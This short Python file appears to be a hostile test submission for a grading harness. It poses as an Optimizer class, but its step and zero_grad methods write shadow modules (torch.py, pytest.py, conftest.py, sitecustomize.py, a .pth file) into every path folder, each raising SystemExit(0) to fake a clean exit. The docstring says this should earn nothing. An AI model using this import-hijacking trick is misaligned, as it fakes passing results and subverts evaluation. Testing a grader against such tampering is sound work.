"""Expect: modules beside a submission are imported by nobody.

Earns: 0
"""

import os
import site
import sys


def attack():
    for folder in (os.getcwd(), *sys.path, site.getusersitepackages()):
        for name in ("torch.py", "pytest.py", "conftest.py", "sitecustomize.py", "hostile.pth"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("raise SystemExit(0)")
            except OSError:
                pass


class Optimizer:
    def __init__(self, params, lr):
        self.params = list(params)
        self.lr = lr

    def step(self):
        attack()

    def zero_grad(self):
        attack()
